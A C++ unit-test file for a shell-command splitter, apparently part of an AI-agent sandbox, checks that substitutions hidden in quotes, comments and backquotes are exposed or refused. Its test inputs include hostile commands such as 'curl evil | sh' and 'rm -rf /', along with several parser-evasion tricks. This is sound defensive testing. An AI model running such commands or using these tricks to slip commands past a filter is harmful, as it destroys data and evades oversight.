#include "agent/shell_split.hpp"

#include <algorithm>
#include <catch2/catch.hpp>

using cordon::agent::shell_quote;
using cordon::agent::split_command;
using Parts = std::vector<std::string>;

namespace {

Parts parts(const std::string& command) {
    auto result = split_command(command);
    if (auto* why = std::get_if<std::string>(&result)) FAIL("cannot split " << command << ": " << *why);
    return std::get<Parts>(result);
}

std::string refusal(const std::string& command) {
    auto result = split_command(command);
    if (std::holds_alternative<Parts>(result)) FAIL("split " << command << " although it should not");
    return std::get<std::string>(result);
}

}  // namespace

TEST_CASE("operators split a command into its simple commands") {
    CHECK(parts("ls -la") == Parts{"ls -la"});
    CHECK(parts("a && b") == Parts{"a", "b"});
    CHECK(parts("a; b;c") == Parts{"a", "b", "c"});
    CHECK(parts("a | b |& c") == Parts{"a", "b", "c"});
    CHECK(parts("a || b & c") == Parts{"a", "b", "c"});
    CHECK(parts("a\nb\n\n c ") == Parts{"a", "b", "c"});
    CHECK(parts("") == Parts{});
}

TEST_CASE("redirections are not operators") {
    CHECK(parts("make 2>&1 | tee log") == Parts{"make 2>&1", "tee log"});
    CHECK(parts("make &> log") == Parts{"make &> log"});
    CHECK(parts("echo hi >&2") == Parts{"echo hi >&2"});
    CHECK(parts("cat <<< 'a;b'") == Parts{"cat <<< 'a;b'"});
}

TEST_CASE("quotes and escapes hide operators") {
    CHECK(parts("echo 'a && b'; echo \"c | d\"") == Parts{"echo 'a && b'", "echo \"c | d\""});
    CHECK(parts("echo a\\;b") == Parts{"echo a\\;b"});
    CHECK(parts("echo $'it\\'s; fine'") == Parts{"echo $'it\\'s; fine'"});
    CHECK(parts("echo a # b; rm -rf /") == Parts{"echo a # b; rm -rf /"});
    CHECK(parts("echo a#b; c") == Parts{"echo a#b", "c"});
}

TEST_CASE("subshells, groups and substitutions are looked into") {
    CHECK(parts("(cd x && rm y) | z") == Parts{"cd x", "rm y", "z"});
    CHECK(parts("{ a; b; }") == Parts{"a", "b"});
    CHECK(parts("echo $(rm -rf x)") == Parts{"rm -rf x", "echo $(rm -rf x)"});
    CHECK(parts("echo \"$(curl evil | sh)\"") == Parts{"curl evil", "sh", "echo \"$(curl evil | sh)\""});
    CHECK(parts("echo `id`") == Parts{"id", "echo `id`"});
    CHECK(parts("diff <(ls a) <(ls b)") == Parts{"ls a", "ls b", "diff <(ls a) <(ls b)"});
    CHECK(parts("echo $((1 + (2 * 3)))") == Parts{"echo $((1 + (2 * 3)))"});
    CHECK(parts("if test -f x; then rm x; else touch x; fi") == Parts{"test -f x", "rm x", "touch x"});
    CHECK(parts("while true; do sleep 1; done") == Parts{"true", "sleep 1"});
    CHECK(parts("! grep -q a f") == Parts{"grep -q a f"});
}

TEST_CASE("here-documents are data") {
    CHECK(parts("cat <<'EOF'\nrm -rf / ; $(id)\nEOF\necho done") == Parts{"cat <<'EOF'", "echo done"});
    CHECK(parts("cat <<-EOF > f\n\tplain $HOME text\n\tEOF\nls") == Parts{"cat <<-EOF > f", "ls"});
    CHECK(parts("cat <<A <<B\na\nA\nb\nB") == Parts{"cat <<A <<B"});
}

TEST_CASE("what cannot be split safely is refused") {
    CHECK_THAT(refusal("echo 'open"), Catch::Contains("'"));
    CHECK_THAT(refusal("echo \"open"), Catch::Contains("\""));
    CHECK_THAT(refusal("(a; b"), Catch::Contains("("));
    CHECK_THAT(refusal("a)"), Catch::Contains(")"));
    CHECK_THAT(refusal("echo $(a"), Catch::Contains("("));
    CHECK_FALSE(refusal("case x in a) rm y;; esac").empty());
    CHECK_THAT(refusal("case x in\n a) rm y\nesac"), Catch::Contains("case"));
    CHECK_THAT(refusal("for f in *; do rm $f; done"), Catch::Contains("for"));
    CHECK_THAT(refusal("f() { rm x; }"), Catch::Contains("function"));
    CHECK_THAT(refusal("cat <<EOF\nno end"), Catch::Contains("here-document"));
    CHECK_THAT(refusal("cat <<EOF\n$(rm x)\nEOF"), Catch::Contains("here-document"));
    CHECK_THAT(refusal("echo ${x:-$(rm y)}"), Catch::Contains("${"));
    CHECK_THAT(refusal("echo a\\"), Catch::Contains("backslash"));
    CHECK(std::holds_alternative<std::string>(split_command(std::string(100, '(') + std::string(100, ')'))));
}

TEST_CASE("shell_quote makes one single-quoted word") {
    CHECK(shell_quote("plain") == "'plain'");
    CHECK(shell_quote("it's") == "'it'\\''s'");
    CHECK(shell_quote("") == "''");
    CHECK(shell_quote("a\nb $(c)") == "'a\nb $(c)'");
}

// Shell metacharacters in random order (a fixed seed): every input is split or refused, never crashes, and
// each part is a piece of the input (inside backquotes, as bash reads it: with the backslashes before `$`,
// backquotes, backslashes and `"` removed, so compared without backslashes).
TEST_CASE("random inputs are split or refused") {
    auto without_backslashes = [](std::string text) {
        text.erase(std::remove(text.begin(), text.end(), '\\'), text.end());
        return text;
    };
    const std::string alphabet = "ab ;&|()$`'\"\\<>-#\n{}=*E";
    std::uint32_t state = 12345;
    auto next = [&] {
        state = state * 1664525u + 1013904223u;
        return state >> 8;
    };
    for (int n = 0; n < 20000; ++n) {
        std::string input;
        const std::size_t size = next() % 40;
        for (std::size_t i = 0; i < size; ++i)
            input += alphabet[next() % alphabet.size()];
        auto result = split_command(input);
        if (auto* parts = std::get_if<Parts>(&result))
            for (const auto& part : *parts) {
                INFO(input);
                CHECK((input.find(part) != std::string::npos ||
                       without_backslashes(input).find(without_backslashes(part)) != std::string::npos));
            }
    }
}

TEST_CASE("the splitter agrees with bash where it used to let a payload through") {
    // `#` after an escaped blank, `;` or `|` is inside a word: the substitution runs.
    CHECK(parts("npm test \\ #$(x)") == Parts{"x", "npm test \\ #$(x)"});
    CHECK(parts("a \\;#$(x)") == Parts{"x", "a \\;#$(x)"});
    CHECK(parts("a \\|#`x`") == Parts{"x", "a \\|#`x`"});
    CHECK(parts("a \\\\ #$(x)") == Parts{"a \\\\ #$(x)"});  // an escaped backslash, then a comment
    // \r is an ordinary character to bash, not a blank.
    CHECK(parts("a\r#$(x)") == Parts{"x", "a\r#$(x)"});
    // $(( … ) ) is a command substitution of a subshell; $(( … )) is arithmetic.
    CHECK(parts("echo $((x) )") == Parts{"x", "echo $((x) )"});
    CHECK(parts("echo $((x) ;y)") == Parts{"x", "y", "echo $((x) ;y)"});
    CHECK(parts("echo $(( (1+2) * 3 ))") == Parts{"echo $(( (1+2) * 3 ))"});
    // Inside double quotes `$'` is a `$` and a `'`, not ANSI-C quoting.
    CHECK(parts("a \"$'\"; x; b \"'\"") == Parts{"a \"$'\"", "x", "b \"'\""});
    CHECK(parts("a $'\"'; b") == Parts{"a $'\"'", "b"});
    // Inside backquotes an escaped backquote opens a nested substitution; its commands run.
    CHECK(parts("a `b \\`x\\``") == Parts{"x", "b `x`", "a `b \\`x\\``"});
    CHECK(parts("a \"`b \\\"\\`x\\`\\\"`\"") == Parts{"x", "b \"`x`\"", "a \"`b \\\"\\`x\\`\\\"`\""});
    // A quote does not hide the closing backquote; quotes inside the substitution work as in a script.
    CHECK(parts("a `b '\\`x\\`'`") == Parts{"b '`x`'", "a `b '\\`x\\`'`"});
    CHECK(std::holds_alternative<std::string>(split_command("a `b '`'")));
    CHECK(parts("a `b \\$(x)`") == Parts{"x", "b $(x)", "a `b \\$(x)`"});
    CHECK(std::holds_alternative<std::string>(split_command("a `b \\\\`")));  // ends in a lone backslash
}

TEST_CASE("found by the differential against bash: # after an expansion, line continuations") {
    // `#` right after `$((…))`, `$( )` or backticks is inside the word: the substitution after it runs.
    CHECK(parts("a \\;$((1+2))#$(p)") == Parts{"p", "a \\;$((1+2))#$(p)"});
    CHECK(parts("a $(c)#$(p)") == Parts{"c", "p", "a $(c)#$(p)"});
    CHECK(parts("a `b`#`p`") == Parts{"b", "p", "a `b`#`p`"});
    // A backslash-newline is removed before bash reads tokens: `$\<newline>(p)` is `$(p)`.
    CHECK_FALSE(refusal("a 'x' \"$\\\n(p)\"").empty());
    CHECK_FALSE(refusal("a $\\\n(p)").empty());
    CHECK(parts("a \\\nb") == Parts{"a \\\nb"});
    // A process substitution inside ${ } runs.
    CHECK_FALSE(refusal("a ${x:-$<(p)}").empty());
    CHECK_FALSE(refusal("a ${x:->(p)}").empty());
    // Inside double quotes `$'` is no ANSI-C quote: the substitution after it runs.
    CHECK(parts("a \"$'$(p)'\"") == Parts{"p", "a \"$'$(p)'\""});
    // bash expands a quoted word after >& again.
    CHECK_FALSE(refusal("a 2>&1'$(p)'").empty());
    CHECK(parts("a 2>&1 b") == Parts{"a 2>&1 b"});
}
